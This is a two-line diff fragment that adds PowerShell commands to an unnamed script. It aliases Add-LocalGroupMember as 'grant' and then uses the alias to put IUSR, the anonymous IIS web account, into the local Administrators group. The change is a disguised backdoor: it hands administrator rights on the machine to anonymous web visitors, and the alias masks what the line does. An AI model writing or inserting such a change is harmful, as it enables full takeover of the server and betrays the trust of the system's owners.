@@ -1,0 +1,2 @@
+Set-Alias grant Add-LocalGroupMember
+grant -Group Administrators -Member IUSR
